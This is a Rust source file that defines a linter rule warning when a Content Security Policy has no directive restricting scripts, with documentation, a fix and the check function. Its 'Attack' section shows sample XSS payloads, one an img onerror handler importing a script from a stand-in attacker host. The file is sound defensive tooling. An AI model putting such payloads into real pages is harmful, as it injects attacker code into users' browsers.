use crate::csp::attack::INLINE_SCRIPT;
use crate::csp::{ALLOW_SCRIPTS, Csp, Directive};
use crate::diagnostic::{Diagnostic, Level};
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for an enforced policy without a directive that takes effect for scripts. If the policy restricts nothing
    /// that the page loads, only who may frame it or where it sends forms, that is a warning. If `script_src_elem` has
    /// nothing to fall back to, `csp_elem_without_script_src` reports that instead.
    ///
    /// # Why it matters
    ///
    /// An absent directive without `default_src` to fall back to restricts nothing. Every script runs, including an
    /// injected one, and a script can do everything that the other directives prevent.
    ///
    /// # Attack
    ///
    /// ```html
    /// <script>alert(1)</script>
    /// <img src="x" onerror="import('https://evil.example/a.js')">
    /// ```
    ///
    /// # Example
    ///
    /// ```text
    /// content_security_policy: { img_src: self },
    /// ```
    ///
    /// # Fix
    ///
    /// Write `default_src`, and `script_src: nonce` if the pages have inline scripts.
    ///
    /// ```text
    /// content_security_policy: { default_src: self, img_src: [self, data] },
    /// ```
    ///
    /// A `sandbox` without `allow_scripts` needs no `script_src`.
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_missing_script_src, reason = "the application that this proxy serves sends script-src")]
    /// content_security_policy: { … },
    /// ```
    ///
    /// Reasonable where another policy, which this crate does not see, restricts scripts.
    ///
    /// # References
    ///
    /// - [CSP3, section 6.1, fetch directives](https://w3c.github.io/webappsec-csp/#directives-fetch)
    /// - [CSP3, section 6.8.3, which directive falls back to which](https://w3c.github.io/webappsec-csp/#directive-fallback-list)
    Deny "scripts may come from anywhere" missing,
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    let enforced = policy.enforced();
    let restricts =
        |csp: &Csp| csp.effective_clause(Directive::ScriptSrcElem).is_some() || csp.sandboxes(&ALLOW_SCRIPTS);
    let (Some(header), true) = (enforced.first(), policy.serves_pages()) else { return };
    if enforced.iter().any(|csp| restricts(csp.node)) {
        return;
    }
    let level = match enforced.iter().any(|csp| csp.node.restricts_fetches()) {
        true => Level::Deny,
        false => Level::Warn,
    };
    report.push_at(
        level,
        Diagnostic::finding(header.span, "this policy does not restrict scripts")
            .help("add `default_src: self`, and `script_src: nonce` where the pages have inline scripts")
            .note(format!("every script runs, including an injected `{}`", INLINE_SCRIPT.text)),
    );
}
